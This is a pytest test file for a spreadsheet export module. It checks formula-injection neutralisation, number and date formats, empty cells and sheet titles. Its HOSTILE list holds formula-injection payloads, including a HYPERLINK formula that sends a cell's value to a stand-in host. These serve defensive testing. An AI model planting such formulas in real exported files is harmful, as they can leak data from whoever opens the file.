"""calc.xlsx: text stays text (formula injection neutralised, OWASP), numbers formatted, empty
stays empty. Read back with openpyxl, as a spreadsheet program would open the file."""

from __future__ import annotations

import io
import math
from datetime import date

import openpyxl
import pandas as pd
import pytest

from calc import xlsx

# OWASP "CSV Injection": each of these would start a formula or a DDE call in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=2+3",
    "+2+3",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(sheets: list[xlsx.Sheet], lang: str = "en") -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx.workbook(sheets, lang)))


@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t[:6])) for t in HOSTILE])
def test_formula_like_text_is_written_as_neutral_text(text: str) -> None:
    # GIVEN a text from data or a user that a spreadsheet would run as a formula,
    # in a cell, as an office id and as a column header
    table = pd.DataFrame({"office_id": [text], text: ["x"]})
    # WHEN written and read back
    sheet = read_back([xlsx.Sheet("t", table)])["t"]
    # THEN every such cell is a string that starts with an apostrophe: never a formula
    for cell in (sheet["A2"], sheet["B1"]):
        assert cell.data_type == "s"
        # (XML keeps no bare carriage return: it reads back as a line feed)
        assert cell.value.replace("\n", "\r") == "'" + text.replace("\n", "\r")


def test_harmless_text_is_left_as_it_is() -> None:
    table = pd.DataFrame({"title": ["Heat pump", "E-bikes for staff", "1 + 1"]})
    sheet = read_back([xlsx.Sheet("t", table)])["t"]
    assert [c.value for c in sheet["A"][1:]] == ["Heat pump", "E-bikes for staff", "1 + 1"]
    assert all(c.data_type == "s" for c in sheet["A"])


def test_numbers_dates_and_empty_cells() -> None:
    # GIVEN a table with every kind and every way pandas writes "missing"
    table = pd.DataFrame(
        {
            "t": [1234.56, math.nan],
            "share": [0.61, None],
            "year": [2019, 2022],
            "count": [1500.0, 2.0],
            "when": [pd.Timestamp(2027, 3, 31), pd.NaT],
            "text": ["a", None],
        }
    )
    kinds = {
        "t": xlsx.Kind.TONNES,
        "share": xlsx.Kind.PERCENT,
        "year": xlsx.Kind.YEAR,
        "count": xlsx.Kind.INTEGER,
        "when": xlsx.Kind.DATE,
    }
    sheet = read_back([xlsx.Sheet("s", table, kinds)], "de")["s"]
    # THEN numbers are numbers with their formats
    assert sheet["A2"].value == pytest.approx(1234.56) and sheet["A2"].number_format == "#,##0.0"
    assert sheet["B2"].value == pytest.approx(0.61) and sheet["B2"].number_format == "0.0%"
    assert sheet["C2"].value == 2019 and sheet["C2"].number_format == "0"
    assert sheet["D2"].value == 1500 and sheet["D2"].number_format == "#,##0"
    assert sheet["E2"].value.date() == date(2027, 3, 31) and sheet["E2"].is_date
    assert sheet["E2"].number_format == "DD.MM.YYYY"  # German date order
    # AND nothing missing is written as a word
    assert [c.value for c in sheet[3]] == [None, None, 2022, 2, None, None]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_no_nan_none_or_nat_anywhere() -> None:
    table = pd.DataFrame({"a": [None, math.nan, pd.NA], "b": [pd.NaT, None, "x"]}, dtype=object)
    book = read_back([xlsx.Sheet("s", table)])
    words = {str(c.value) for row in book["s"].iter_rows() for c in row if c.value is not None}
    assert words == {"a", "b", "x"}


def test_sheet_titles_are_valid_and_unique() -> None:
    tables = [
        xlsx.Sheet("By office: 2019/2022", pd.DataFrame()),
        xlsx.Sheet("x" * 40, pd.DataFrame()),
    ]
    tables.append(xlsx.Sheet("x" * 40, pd.DataFrame()))
    names = read_back(tables).sheetnames
    assert names[0] == "By office  2019 2022"
    assert names[1] == "x" * 31 and names[2] == "x" * 27 + " (2)"
